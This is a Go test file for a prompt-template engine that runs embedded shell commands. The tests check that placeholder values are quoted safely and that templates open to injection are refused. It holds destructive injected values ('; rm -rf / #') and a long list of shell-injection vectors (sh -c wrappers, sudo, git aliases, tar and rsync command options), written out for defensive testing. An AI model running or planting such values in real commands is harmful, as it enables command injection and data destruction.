package prompt

import (
	"context"
	"errors"
	"maps"
	"os"
	"os/exec"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
)

var branches = map[string]string{"SOURCE_BRANCH": "sandcastle/fix-1", "TARGET_BRANCH": "main"}

// withBranches is values plus the branch built-ins.
func withBranches(values map[string]string) map[string]string {
	out := map[string]string{}
	for k, v := range branches {
		out[k] = v
	}
	for k, v := range values {
		out[k] = v
	}
	return out
}

// render parses text and renders it with values and the branch built-ins, failing the test on
// any error.
func render(t *testing.T, text string, values map[string]string) *Prompt {
	t.Helper()
	tmpl, err := Parse(text)
	if err != nil {
		t.Fatalf("Parse(%q): %v", text, err)
	}
	p, err := tmpl.Render(withBranches(values))
	if err != nil {
		t.Fatalf("Render(%q): %v", text, err)
	}
	return p
}

// neverRun is a Runner that fails the test when called.
func neverRun(t *testing.T) Runner {
	return func(_ context.Context, c Command) (Output, error) {
		t.Errorf("runner called with %q", c.Shell)
		return Output{}, nil
	}
}

// recorder is a Runner that answers every command with answer(source) and remembers the
// commands it was given.
type recorder struct {
	mu     sync.Mutex
	calls  []Command
	answer func(source string) Output
}

func (r *recorder) run(_ context.Context, c Command) (Output, error) {
	r.mu.Lock()
	r.calls = append(r.calls, c)
	r.mu.Unlock()
	return r.answer(c.Source), nil
}

// sources are the Source of each call, sorted.
func (r *recorder) sources() []string {
	var out []string
	for _, c := range r.calls {
		out = append(out, c.Source)
	}
	slices.Sort(out)
	return out
}

func sourcesOf(cmds []Command) []string {
	var out []string
	for _, c := range cmds {
		out = append(out, c.Source)
	}
	return out
}

func TestInline(t *testing.T) {
	for _, text := range []string{
		"",
		"plain",
		"Fix {{ISSUE}} on {{SOURCE_BRANCH}}: !`gh issue view 1` and \x01!`x`",
		"{{{X}}} $1 ${X}\n",
		"unclosed !`command\n",
	} {
		p := Inline(text)
		if got := p.Text(); got != text {
			t.Errorf("Inline(%q).Text() = %q", text, got)
		}
		if got := p.Commands(); len(got) != 0 {
			t.Errorf("Inline(%q).Commands() = %v, want none", text, got)
		}
		got, done, err := p.Expand(t.Context(), neverRun(t), 0)
		if err != nil || got != text || done != nil {
			t.Errorf("Inline(%q).Expand() = %q, %v, %v", text, got, done, err)
		}
	}
}

func TestRenderSubstitution(t *testing.T) {
	tests := []struct {
		name     string
		template string
		values   map[string]string
		want     string
	}{
		{"simple", "Fix #{{ISSUE}}.", map[string]string{"ISSUE": "42"}, "Fix #42."},
		{"whitespace_in_braces", "{{ A }}|{{\tA\t}}|{{A }}|{{\n A}}", map[string]string{"A": "x"}, "x|x|x|x"},
		{"triple_braces_keep_outer", "{{{A}}}", map[string]string{"A": "x"}, "{x}"},
		{"non_matching_left_alone", "{{a-b}} {{ 1X }} {{}} {A} {{A}", map[string]string{"A": "x"}, "{{a-b}} {{ 1X }} {{}} {A} {{A}"},
		{"underscore_and_digits", "{{_a1}}", map[string]string{"_a1": "v"}, "v"},
		{"case_sensitive", "{{a}}{{A}}", map[string]string{"a": "1", "A": "2"}, "12"},
		{"repeated", "{{A}}-{{A}}", map[string]string{"A": "x"}, "x-x"},
		{"dollar_literal", "{{A}}", map[string]string{"A": "$1 $$ ${A} $A"}, "$1 $$ ${A} $A"},
		{"empty_value", "[{{A}}]", map[string]string{"A": ""}, "[]"},
		{"value_not_reexpanded", "{{A}} {{B}}", map[string]string{"A": "{{B}}", "B": "{{A}}"}, "{{B}} {{A}}"},
		{"value_with_builtin_name_not_reexpanded", "{{A}}", map[string]string{"A": "{{SOURCE_BRANCH}}"}, "{{SOURCE_BRANCH}}"},
		{"builtins", "{{SOURCE_BRANCH}} -> {{ TARGET_BRANCH }}", nil, "sandcastle/fix-1 -> main"},
		{"unicode", "é{{A}}ü", map[string]string{"A": "日本"}, "é日本ü"},
		{"no_placeholders", "just text", nil, "just text"},
		{"control_chars_kept", "\x01{{A}}\x01", map[string]string{"A": "\x01"}, "\x01\x01\x01"},
		{"nul_in_text_is_kept", "[{{A}}]", map[string]string{"A": "a\x00b"}, "[a\x00b]"},
		{"command_written_back_unfilled", "see !`gh issue view {{ ISSUE }}`", map[string]string{"ISSUE": "7; rm -rf /"}, "see !`gh issue view {{ ISSUE }}`"},
		{"builtin_in_command_unfilled", "!`git log {{TARGET_BRANCH}}..{{SOURCE_BRANCH}}`", nil, "!`git log {{TARGET_BRANCH}}..{{SOURCE_BRANCH}}`"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got, want := render(t, tt.template, tt.values).Text(), tt.want; got != want {
				t.Errorf("Text() = %q, want %q", got, want)
			}
		})
	}
}

func TestRenderMissingKeys(t *testing.T) {
	tests := []struct {
		name     string
		template string
		values   map[string]string
		want     []string
		msg      string
	}{
		{"one", "Fix {{ISSUE}}", nil, []string{"ISSUE"}, "no value for {{ISSUE}}"},
		{"in_order_of_first_appearance", "{{ TITLE }} {{ISSUE}} {{TITLE}} {{ISSUE}}", nil, []string{"TITLE", "ISSUE"}, "no value for {{TITLE}} and {{ISSUE}}"},
		{"in_commands_too", "{{C}} {{OK}} !`echo {{A}}` {{B}}", map[string]string{"OK": "1"}, []string{"C", "A", "B"}, "no value for {{C}}, {{A}} and {{B}}"},
		{"an_empty_value_is_a_value", "{{E}} {{F}}", map[string]string{"E": ""}, []string{"F"}, "no value for {{F}}"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tmpl, err := Parse(tt.template)
			if err != nil {
				t.Fatal(err)
			}
			p, err := tmpl.Render(tt.values)
			var mk *MissingKeysError
			if !errors.As(err, &mk) || p != nil {
				t.Fatalf("Render() = %v, %v; want a *MissingKeysError", p, err)
			}
			if !slices.Equal(mk.Keys, tt.want) || err.Error() != tt.msg {
				t.Errorf("error = %q with keys %q, want %q with %q", err, mk.Keys, tt.msg, tt.want)
			}
		})
	}
}

func TestKeys(t *testing.T) {
	tmpl, err := Parse("{{B}} !`echo {{A}} {{ B }}` {{C}}{{A}}")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := tmpl.Keys(), []string{"B", "A", "C"}; !slices.Equal(got, want) {
		t.Errorf("Keys() = %q, want %q", got, want)
	}
}

func TestParseCommands(t *testing.T) {
	tests := []struct {
		name     string
		template string
		want     []string
	}{
		{"none", "no commands here", nil},
		{"one", "a !`git log` b", []string{"git log"}},
		{"in_order_with_duplicates", "!`b` !`a` !`b`", []string{"b", "a", "b"}},
		{"one_per_line", "!`echo 1`\n!`echo 2`\n", []string{"echo 1", "echo 2"}},
		{"adjacent", "!`a`!`b`", []string{"a", "b"}},
		{"empty_body_is_text", "!`` and !`x`", []string{"x"}},
		{"code_fence_is_text", "```sh\n!```\nmake\n```\n", nil},
		{"bang_required", "`a` ! `b`", nil},
		{"leftmost_first", "!`a`b` !`c`", []string{"a", "c"}},
		{"body_may_contain_bang", "!`!`", []string{"!"}},
		{"control_char_in_template_is_ordinary", "!\x01`a` \x01!`b`", []string{"b"}},
		{"crlf_line", "!`date`\r\nnext\r\n", []string{"date"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := render(t, tt.template, nil)
			if got := sourcesOf(p.Commands()); !slices.Equal(got, tt.want) {
				t.Errorf("Commands() = %q, want %q", got, tt.want)
			}
			if got, want := p.Text(), tt.template; got != want {
				t.Errorf("Text() = %q, want the template back %q", got, want)
			}
		})
	}
}

// parts returns the errors joined in err, failing unless there are any and each is an E.
func parts[E error](t *testing.T, err error) []E {
	t.Helper()
	if err == nil {
		t.Fatal("no error, want some")
	}
	var out []E
	for _, e := range err.(interface{ Unwrap() []error }).Unwrap() {
		var target E
		if !errors.As(e, &target) {
			t.Fatalf("%v is not a %T", e, target)
		}
		out = append(out, target)
	}
	return out
}

// TestParseUnclosed: a !` that does not close on its line runs nothing and is reported where it
// opens; every one is reported at once.
func TestParseUnclosed(t *testing.T) {
	tests := []struct {
		name     string
		template string
		want     [][2]int // line, column of each problem
	}{
		{"at_end", "!`a", [][2]int{{1, 1}}},
		{"bare_opener_at_end", "Look !`", [][2]int{{1, 6}}},
		{"closes_on_a_later_line", "Fix it.\nStatus: !`git status\nthen commit `it`.\n", [][2]int{{2, 9}}},
		{"column_counts_characters", "é: !`a\n", [][2]int{{1, 4}}},
		{"every_one", "!`a\n!`ok` !`b\n!`c", [][2]int{{1, 1}, {2, 7}, {3, 1}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tmpl, err := Parse(tt.template)
			if tmpl != nil {
				t.Errorf("Parse returned a template with the error")
			}
			var got [][2]int
			for _, se := range parts[*SyntaxError](t, err) {
				got = append(got, [2]int{se.Line, se.Column})
				if !strings.Contains(se.Msg, "not closed on its line") {
					t.Errorf("message %q does not say the command is not closed on its line", se.Msg)
				}
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("problems at %v, want %v (%v)", got, tt.want, err)
			}
		})
	}
}

// TestCommandShell: each placeholder in a command becomes a reference quoted for where it
// stands; the value travels in Env only.
func TestCommandShell(t *testing.T) {
	const v = "${SANDCASTLE_ARG_A}"
	tests := []struct {
		name, body, want string
	}{
		{"bare", "gh issue view {{A}} --json body -q .body", `gh issue view "` + v + `" --json body -q .body`},
		{"double", `printf '%s\n' "{{A}}"`, `printf '%s\n' "` + v + `"`},
		{"single", `printf '%s\n' '{{A}}'`, `printf '%s\n' ''"` + v + `"''`},
		{"next_to_text", `echo x{{A}}y "x{{A}}y" 'x{{A}}y'`, `echo x"` + v + `"y "x` + v + `y" 'x'"` + v + `"'y'`},
		{"escaped_quote_before", `echo \'{{A}}`, `echo \'"` + v + `"`},
		{"quotes_of_the_other_kind", `echo "it's {{A}}" 'say "{{A}}"'`, `echo "it's ` + v + `" 'say "'"` + v + `"'"'`},
		{"hash_in_a_word_is_no_comment", `echo a#'{{A}}'`, `echo a#''"` + v + `"''`},
		{"whitespace_in_braces", `echo {{ A }}`, `echo "` + v + `"`},
		{"after_parameters", `echo "${HOME}/{{A}}" $1{{A}} "$#{{A}}"`, `echo "${HOME}/` + v + `" $1"` + v + `" "$#` + v + `"`},
		{"dollar_before_a_quote", `echo "$"{{A}}`, `echo "$""` + v + `"`},
		{"joined_commands", `git fetch -q && git log {{A}} | head -5; true || echo {{A}}`, `git fetch -q && git log "` + v + `" | head -5; true || echo "` + v + `"`},
		{"redirections", `2>/dev/null grep -F {{A}} <notes.txt >out.txt 2>&1`, `2>/dev/null grep -F "` + v + `" <notes.txt >out.txt 2>&1`},
		{"assignment_before_the_program", `LC_ALL=C grep -F {{A}} notes.txt`, `LC_ALL=C grep -F "` + v + `" notes.txt`},
		{"a_script_of_the_repository", `./scripts/issue.sh {{A}}`, `./scripts/issue.sh "` + v + `"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cmds := render(t, "!`"+tt.body+"`", map[string]string{"A": "; rm -rf / #"}).Commands()
			if len(cmds) != 1 {
				t.Fatalf("commands = %v, want one", cmds)
			}
			c := cmds[0]
			if c.Shell != tt.want {
				t.Errorf("Shell = %s\nwant    %s", c.Shell, tt.want)
			}
			if c.Source != tt.body {
				t.Errorf("Source = %q, want the body as written %q", c.Source, tt.body)
			}
			if want := map[string]string{"SANDCASTLE_ARG_A": "; rm -rf / #"}; len(c.Env) != 1 || c.Env["SANDCASTLE_ARG_A"] != want["SANDCASTLE_ARG_A"] {
				t.Errorf("Env = %q, want %q", c.Env, want)
			}
		})
	}
	// Only the placeholders a command uses are in its environment; a command without any has none.
	cmds := render(t, "!`echo {{A}} {{SOURCE_BRANCH}}` !`date`", map[string]string{"A": "a", "B": "b"}).Commands()
	if got := cmds[0].Env; len(got) != 2 || got["SANDCASTLE_ARG_A"] != "a" || got["SANDCASTLE_ARG_SOURCE_BRANCH"] != "sandcastle/fix-1" {
		t.Errorf("Env of the first command = %q", got)
	}
	if got := cmds[1].Env; len(got) != 0 {
		t.Errorf("Env of a command without placeholders = %q, want none", got)
	}
}

// refused are commands that use a placeholder outside the plain subset of the shell, each
// with what its error must say. They include every template an independent review found to run
// a value under the rule before this one (a list of positions to refuse), and those it found
// refused.
var refused = []struct {
	name, body, want string
}{
	// Found to run the value.
	{"timeout_sh_c", `timeout 30 sh -c "echo {{X}}"`, "`timeout` runs a program"},
	{"nice_sh_c", `nice -n 5 sh -c "echo {{X}}"`, "`nice` runs a program"},
	{"env_u_sh_c", `env -u HOME sh -c "echo {{X}}"`, "`env` runs a program"},
	{"sh_c_dashdash", `sh -c -- "echo {{X}}"`, "`sh` is a shell"},
	{"sh_c_e", `sh -c -e "echo {{X}}"`, "`sh` is a shell"},
	{"shell_variable_c", `$SHELL -c "echo {{X}}"`, "$SHELL expands to the name of a shell"},
	{"env_S", `env -u HOME -S {{X}}`, "`env` runs a program"},
	{"eval_substitution", `eval "$(echo {{X}})"`, "$(...) runs a command"},
	{"trap_substitution", `trap "$(echo {{X}})" EXIT`, "$(...) runs a command"},
	{"sh_c_substitution", `sh -c "$(printf %s {{X}})"`, "$(...) runs a command"},
	{"source_process_substitution", `source <(echo {{X}})`, "( is shell syntax"},
	{"test_keyword_in_substitution", `echo $([[ {{X}} -gt 0 ]] && echo big)`, "$(...) runs a command"},
	{"if_arithmetic", `if((n={{X}})); then echo y; fi`, "( is shell syntax"},
	{"for_arithmetic", `for((i={{X}};;)); do break; done`, "( is shell syntax"},
	{"while_arithmetic", `while((n={{X}})); do break; done`, "( is shell syntax"},
	{"array_assignment", `a=(x [{{X}}]=1)`, "( is shell syntax"},
	{"declare_integer", `declare -i n; n={{X}}`, "`declare` is a shell builtin"},
	{"optind", `OPTIND={{X}}`, "{{X}} is assigned to a variable"},
	{"random", `RANDOM={{X}}`, "{{X}} is assigned to a variable"},
	{"unset", `unset {{X}}`, "`unset` is a shell builtin"},
	{"wait_p", `wait -n -p {{X}}`, "`wait` is a shell builtin"},
	{"after_a_redirection", `>/dev/null {{X}}`, "{{X}} stands where a command's name goes"},
	{"after_a_redirection_with_fd", `true; 2>/dev/null {{X}}`, "{{X}} stands where a command's name goes"},
	{"time", `time -p {{X}}`, "`time` starts or ends a compound command"},
	{"case_in_substitution", `echo $(case y in y) {{X}};; esac)`, "$(...) runs a command"},
	{"exec_a", `exec -a foo {{X}}`, "`exec` is a shell builtin"},
	{"coproc", `coproc {{X}}`, "`coproc` starts or ends a compound command"},
	// Found to run the value in issue 19: a program that runs the program its arguments name,
	// with or without its options, hides a shell, and the rule checked only the first word.
	{"setarch_sh_c", `setarch x86_64 sh -c {{X}}`, "`setarch` runs a program that its arguments name; here it runs `sh`, and `sh` is a shell"},
	{"setarch_options_sh_c", `setarch x86_64 -R --addr-no-randomize sh -c {{X}}`, "`setarch` runs a program that its arguments name; here it runs `sh`"},
	{"setarch_program", `setarch x86_64 {{X}}`, "`setarch` runs a program that its arguments name"},
	{"setarch_alias", `linux64 bash -c {{X}}`, "`linux64` runs a program that its arguments name; here it runs `bash`"},
	{"ssh_agent_sh_c", `ssh-agent sh -c {{X}}`, "`ssh-agent` runs a program that its arguments name; here it runs `sh`"},
	{"ssh_agent_options_sh_c", `ssh-agent -a agent.sock -t 60 sh -c {{X}}`, "`ssh-agent` runs a program that its arguments name; here it runs `sh`"},
	{"ssh_agent_program", `ssh-agent {{X}}`, "`ssh-agent` runs a program that its arguments name"},
	{"env_sh_c", `env sh -c {{X}}`, "`env` runs a program that its arguments name; here it runs `sh`"},
	{"env_i_sh_c", `env -i PATH=. sh -c {{X}}`, "`env` runs a program that its arguments name; here it runs `sh`"},
	{"env_S_string", `env -S 'sh -c' {{X}}`, "`env` runs a program that its arguments name; here it runs `sh -c`"},
	{"nice_plain_sh_c", `nice sh -c {{X}}`, "`nice` runs a program that its arguments name; here it runs `sh`"},
	{"nohup_sh_c", `nohup sh -c {{X}}`, "`nohup` runs a program that its arguments name; here it runs `sh`"},
	{"timeout_options_sh_c", `timeout -s KILL -k 1 5 bash -c {{X}}`, "`timeout` runs a program that its arguments name; here it runs `bash`"},
	{"timeout_program", `timeout 5 {{X}}`, "`timeout` runs a program that its arguments name"},
	{"stdbuf_sh_c", `stdbuf -oL sh -c {{X}}`, "`stdbuf` runs a program that its arguments name; here it runs `sh`"},
	{"xargs_sh_c", `printf '%s' {{X}} | xargs -0 sh -c`, "`xargs` runs a program that its arguments name; here it runs `sh`"},
	{"flock_sh_c", `flock lock sh -c {{X}}`, "`flock` runs a program that its arguments name; here it runs `sh`"},
	{"flock_c", `flock -w 5 lock -c {{X}}`, "`flock` runs a program that its arguments name"},
	{"chroot_sh_c", `chroot . sh -c {{X}}`, "`chroot` runs a program that its arguments name; here it runs `sh`"},
	{"time_by_path_sh_c", `/usr/bin/time -p sh -c {{X}}`, "`/usr/bin/time` runs a program that its arguments name; here it runs `sh`"},
	{"command_sh_c", `command sh -c {{X}}`, "`command` is a shell builtin"},
	{"exec_sh_c", `exec sh -c {{X}}`, "`exec` is a shell builtin"},
	{"busybox_sh_c", `busybox sh -c {{X}}`, "`busybox` is a shell"},
	{"busybox_env_sh_c", `busybox env sh -c {{X}}`, "`busybox` is a shell"},
	{"sudo_sh_c", `sudo -u nobody -E sh -c {{X}}`, "`sudo` runs a program that its arguments name; here it runs `sh`"},
	{"sudo_s", `sudo -s {{X}}`, "`sudo` runs a program that its arguments name"},
	{"doas_sh_c", `doas -u nobody sh -c {{X}}`, "`doas` runs a program that its arguments name; here it runs `sh`"},
	{"su_c", `su nobody -c {{X}}`, "`su` runs a program that its arguments name"},
	{"unshare_sh_c", `unshare -r --fork sh -c {{X}}`, "`unshare` runs a program that its arguments name; here it runs `sh`"},
	{"nsenter_sh_c", `nsenter -t 1 -m sh -c {{X}}`, "`nsenter` runs a program that its arguments name; here it runs `sh`"},
	{"taskset_sh_c", `taskset -c 0 sh -c {{X}}`, "`taskset` runs a program that its arguments name; here it runs `sh`"},
	{"ionice_sh_c", `ionice -c3 sh -c {{X}}`, "`ionice` runs a program that its arguments name; here it runs `sh`"},
	{"chrt_sh_c", `chrt -o 0 sh -c {{X}}`, "`chrt` runs a program that its arguments name; here it runs `sh`"},
	{"strace_sh_c", `strace -f -o trace sh -c {{X}}`, "`strace` runs a program that its arguments name; here it runs `sh`"},
	{"ltrace_sh_c", `ltrace sh -c {{X}}`, "`ltrace` runs a program that its arguments name; here it runs `sh`"},
	{"watch", `watch -n 1 echo {{X}}`, "`watch` runs a program that its arguments name"},
	{"script_c", `script -qc {{X}} log`, "`script` runs a program that its arguments name"},
	{"runuser_sh_c", `runuser -u nobody -- sh -c {{X}}`, "`runuser` runs a program that its arguments name; here it runs `sh`"},
	{"setsid_sh_c", `setsid -w sh -c {{X}}`, "`setsid` runs a program that its arguments name; here it runs `sh`"},
	{"systemd_run_sh_c", `systemd-run --user --pipe sh -c {{X}}`, "`systemd-run` runs a program that its arguments name; here it runs `sh`"},
	{"parallel", `parallel echo ::: {{X}}`, "`parallel` runs a program that its arguments name"},
	{"find_exec_sh_c", `find . -exec sh -c {{X}} ';'`, "`find` runs a program that its arguments name; here it runs `sh`"},
	{"find_execdir", `find . -execdir echo {{X}} ';'`, "`find` runs a program that its arguments name"},
	{"find_ok", `find . -ok echo {{X}} ';'`, "`find` runs a program that its arguments name"},
	{"dbus_run_session_sh_c", `dbus-run-session -- sh -c {{X}}`, "`dbus-run-session` runs a program that its arguments name; here it runs `sh`"},
	{"sg_c", `sg users -c {{X}}`, "`sg` runs a program that its arguments name"},
	{"run_parts", `printf '%s' {{X}} > job; run-parts .`, "`run-parts` runs a program that its arguments name"},
	// Whatever runs it, a shell or an interpreter is named by some word of the command: a
	// program not known to run others (here a script of the repository) cannot hide one.
	{"script_sh_c", `./retry 3 sh -c {{X}}`, "`./retry` could run its argument `sh`, as setarch or ssh-agent run theirs, and `sh` is a shell"},
	{"script_shell_by_path", `./retry 3 /bin/dash -c {{X}}`, "`./retry` could run its argument `/bin/dash`"},
	{"script_quoted_shell", `./retry 3 's''h' -c {{X}}`, "`./retry` could run its argument `sh`"},
	{"script_shell_string", `./retry --command 'bash -c' {{X}}`, "`./retry` could run its argument `bash -c`"},
	{"script_shell_string_option", `./retry --command='python3 -c' {{X}}`, "`./retry` could run its argument `--command=python3 -c`, as setarch or ssh-agent run theirs, and `python3` runs code"},
	{"script_shell_option", `./retry --shell=bash {{X}}`, "`./retry` could run its argument `--shell=bash`"},
	{"script_interpreter", `./retry 3 perl -e {{X}}`, "`./retry` could run its argument `perl`, as setarch or ssh-agent run theirs, and `perl` runs code"},
	{"script_wrapper", `./retry 3 setarch x86_64 {{X}}`, "`./retry` could run its argument `setarch`"},
	{"script_shell_after", `./retry {{X}} sh`, "`./retry` could run its argument `sh`"},
	{"shell_in_another_command", `printf '%s' {{X}} > cmd; ./retry sh cmd`, "`./retry` could run its argument `sh`"},
	{"shell_after_an_empty_parameter", `./retry ${UNSET}sh -c {{X}}`, "`./retry` could run its argument `${UNSET}sh`"},
	{"shell_after_a_parameter_and_quotes", `./retry $UNSET"sh" -c {{X}}`, "`./retry` could run its argument `$UNSETsh`"},
	{"shell_after_a_placeholder", `./retry {{X}}sh -c 'echo hi'`, "`./retry` could run its argument `{{X}}sh`"},
	{"file_named_as_a_shell", `printf x > sh; ./retry s? -c {{X}}`, "its > makes a file `sh`"},
	{"git_alias", `git -c 'alias.x=!sh -c' x {{X}}`, "`git` could run its argument `alias.x=!sh -c`"},
	{"git_alias_eval", `git -c 'alias.x=!eval "$1"' x {{X}}`, "`git` could run its argument `alias.x=!eval $1`, as setarch or ssh-agent run theirs, and `!eval` starts a command line that git runs as shell"},
	{"git_alias_function", `git -c 'alias.x=!f() { eval "$1"; }; f' x {{X}}`, "and `!f()` starts a command line that git runs as shell"},
	{"git_alias_from_the_environment", `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!eval "$1"' git x {{X}}`, "`GIT_CONFIG_VALUE_0=!eval $1` gives a variable `!eval`"},
	{"git_alias_configured", `git config alias.x '!eval "$1"'; git x {{X}}`, "`git` could run its argument `!eval $1`"},
	{"git_submodule_foreach", `git submodule foreach --recursive {{X}}`, "`git submodule` runs the command that its foreach gives"},
	{"git_rebase_exec", `git -C . rebase -x {{X}} HEAD~1`, "`git rebase` runs the command that its -x gives"},
	{"git_rebase_exec_attached", `git rebase --exec=./check HEAD~1 {{X}}`, "`git rebase` runs the command that its --exec gives"},
	{"git_bisect_run", `git bisect run {{X}}`, "`git bisect` runs the command that its run gives"},
	{"git_grep_pager", `git grep -Ocat -e {{X}}`, "`git grep` runs the command that its -O gives"},
	{"git_difftool_extcmd", `git difftool --extcmd {{X}}`, "`git difftool` runs the command that its --extcmd gives"},
	{"git_ls_remote_upload_pack", `git ls-remote --upload-pack {{X}} .`, "`git ls-remote` runs the command that its --upload-pack gives"},
	{"git_filter_branch", `git filter-branch --msg-filter cat -- {{X}}`, "`git filter-branch` runs the commands that its filters give"},
	{"tar_checkpoint_action", `tar -cf x.tar --checkpoint=1 --checkpoint-action=exec={{X}} f`, "`tar` runs the command that its --checkpoint-action gives"},
	{"tar_to_command", `tar -xf x.tar --to-command {{X}}`, "`tar` runs the command that its --to-command gives"},
	{"tar_compress_program", `tar -cf x.tar -I{{X}} f`, "`tar` runs the command that its -I gives"},
	{"sort_compress_program", `sort --compress-program={{X}} f`, "`sort` runs the command that its --compress-program gives"},
	{"zip_test_command", `zip -T -TT {{X}} x.zip f`, "`zip` runs the command that its -TT gives"},
	{"rsync_rsh", `rsync -e {{X}} f host:f`, "`rsync` runs the command that its -e gives"},
	{"scp_program", `scp -S {{X}} f host:f`, "`scp` runs the command that its -S gives"},
	{"assigned_shell", `S=sh ./retry "$S" -c {{X}}`, "`S=sh` gives a variable `sh`"},
	{"dollar_zero", `./retry "$0" -c {{X}}`, "$0 expands to the name of a shell"},
	{"dollar_zero_braces", `./retry ${0} -c {{X}}`, "${0} expands to the name of a shell"},
	{"dollar_underscore", `./retry $_ -c {{X}}`, "$_ expands to the name of a shell"},
	{"dollar_shell", `./retry "$SHELL" -c {{X}}`, "$SHELL expands to the name of a shell"},
	{"dollar_bash", `./retry $BASH -c {{X}}`, "$BASH expands to the name of a shell"},
	// Interpreters, whatever option gives them code.
	{"perl_e", `perl -e 'print @ARGV' {{X}}`, "`perl` runs code"},
	{"python_c", `python -c 'import sys' {{X}}`, "`python` runs code"},
	{"node_e", `node -e 'console.log(1)' {{X}}`, "`node` runs code"},
	{"ruby_e", `ruby -e 'p ARGV' {{X}}`, "`ruby` runs code"},
	{"sed_e", `sed 's/x/y/e' {{X}}`, "`sed` runs code"},
	{"ssh_remote", `ssh host {{X}}`, "`ssh` runs a program"},
	// Found refused.
	{"bash_o_c", `bash -o pipefail -c "{{X}}"`, "`bash` is a shell"},
	{"subshell_case", `(case x in x) {{X}};; esac)`, "( is shell syntax"},
	{"group", `{ {{X}}; }`, "{ is unquoted"},
	{"after_and", `true && {{X}}`, "{{X}} stands where a command's name goes"},
	{"after_or", `false || {{X}}`, "{{X}} stands where a command's name goes"},
	{"after_semicolon", `true; {{X}}`, "{{X}} stands where a command's name goes"},
	{"after_bang", `! {{X}}`, "`!` starts or ends a compound command"},
	{"command_eval", `command eval {{X}}`, "`command` is a shell builtin"},
	{"builtin_eval", `builtin eval {{X}}`, "`builtin` is a shell builtin"},
	{"after_an_assignment", `x=1 {{X}}`, "{{X}} stands where a command's name goes"},
	{"subscript_assignment", `a[{{X}}]=1`, "{{X}} stands where a command's name goes"},
	{"ansi_c_quoting", `echo $'\'' {{X}}`, "$'...' quoting is bash's"},
	// A placeholder right after $ ($ would take the first brace of the placeholder).
	{"after_a_dollar", `echo ${{X}} ; echo {{X}}`, "{{X}} follows a $"},
	{"after_a_dollar_in_double_quotes", `echo "${{X}}"`, "{{X}} follows a $"},
	// Where the value would be the program, a file, a format or a variable's name.
	{"command_name", `{{X}} --version`, "{{X}} stands where a command's name goes"},
	{"command_name_quoted", `"{{X}}"`, "{{X}} stands where a command's name goes"},
	{"command_name_after_pipe", `echo x | x{{X}}`, "{{X}} stands where a command's name goes"},
	{"redirection_target", `printf '%s' x > {{X}}`, "{{X}} is the file of a redirection"},
	{"redirection_source", `cat <"{{X}}"`, "{{X}} is the file of a redirection"},
	{"here_string", `cat <<< {{X}}`, "<< starts a here-document"},
	{"printf_format", `printf {{X}}`, "{{X}} is the format of printf"},
	{"printf_v", `printf -v x '%s' {{X}}`, "is an option, not its format"},
	{"printf_v_quoted", `printf '-v' x {{X}}`, "is an option, not its format"},
	{"test_v", `test -v {{X}}`, "`test` is a shell builtin"},
	{"bracket_v", `[ -v {{X}} ]`, "`[` is a shell builtin"},
	{"read", `read {{X}}`, "`read` is a shell builtin"},
	{"cd", `cd {{X}} && ./run.sh`, "`cd` is a shell builtin"},
	{"dot", `. {{X}}`, "`.` is a shell builtin"},
	{"let", `let n={{X}}+1`, "`let` is a shell builtin"},
	{"xargs", `printf '%s' {{X}} | xargs echo`, "`xargs` runs a program"},
	{"find", `find . -name {{X}}`, "`find` runs a program"},
	{"interpreter", `python3 -c 'import sys; print(sys.argv[1])' {{X}}`, "`python3` runs code"},
	{"awk", `awk -v x={{X}} 'BEGIN { print x }'`, "`awk` runs code"},
	{"shell_by_path", `/bin/bash script.sh {{X}}`, "`/bin/bash` is a shell"},
	{"quoted_program", `'printf' '%s' {{X}}`, "not a plain word"},
	{"function", `f() { eval "$1"; }; f {{X}}`, "( is shell syntax"},
	// Anywhere in a command that uses a placeholder.
	{"eval_elsewhere", `git log {{X}} && eval "$STUFF"`, "`eval` is a shell builtin"},
	{"alias_elsewhere", `alias p=printf; p {{X}}`, "`alias` is a shell builtin"},
	{"arithmetic_elsewhere", `echo $(( 1 + 1 )) {{X}}`, "$((...)) evaluates arithmetic"},
	{"old_arithmetic", `echo $[ 1 ] {{X}}`, "$[...] evaluates arithmetic"},
	{"test_keyword", `[[ -n x ]] && echo {{X}}`, "`[[` starts or ends a compound command"},
	{"parameter_default", `echo ${HOME:-{{X}}}`, "${...} holds more than a name"},
	{"parameter_length", `echo ${#HOME} {{X}}`, "${...} holds more than a name"},
	{"parameter_indirection", `echo "${!X}" {{X}}`, "${...} holds more than a name"},
	{"parameter_subscript", `echo "${a[0]}" {{X}}`, "${...} holds more than a name"},
	{"command_substitution_elsewhere", `echo "$(date)" {{X}}`, "$(...) runs a command"},
	{"brace_expansion", `echo {a,b} {{X}}`, "{ is unquoted"},
	{"background", `echo {{X}} &`, "& runs a command in the background"},
	{"bash_redirect_both", `echo {{X}} &>/dev/null`, "& runs a command in the background"},
	{"bash_pipe_both", `echo {{X}} |& cat`, "|& is bash's alone"},
	{"case_terminator", `echo {{X}};;`, ";; belongs to case"},
	{"comment", `echo {{X}} # {{X}}`, "# starts a comment"},
	{"locale_quoting", `echo $"x" {{X}}`, `$"..." quoting is bash's`},
	{"after_a_backslash", `echo \{{X}}`, "{{X}} follows a backslash"},
	{"after_a_backslash_in_double_quotes", `echo "\{{X}}"`, "{{X}} follows a backslash"},
	{"ends_with_a_backslash", `echo {{X}} \`, "ends with a backslash"},
	{"unclosed_double_quote", `echo "{{X}}`, `its " is not closed`},
	{"unclosed_single_quote", `echo {{X}} 'x`, `its ' is not closed`},
	{"nothing_before_a_pipe", `| echo {{X}}`, "no command comes before its |"},
	{"nothing_after_and", `echo {{X}} &&`, "no command comes after its &&"},
	{"redirection_without_file", `echo {{X}} >`, "its > has no file"},
}

// TestCommandRefused: a command that uses a placeholder outside the plain subset of the shell is
// a syntax error naming the line and column of what leaves it, the command, the placeholders,
// why, and the way that works.
func TestCommandRefused(t *testing.T) {
	for _, tt := range refused {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse("Intro.\nCount: !`" + tt.body + "`\n")
			problems := parts[*SyntaxError](t, err)
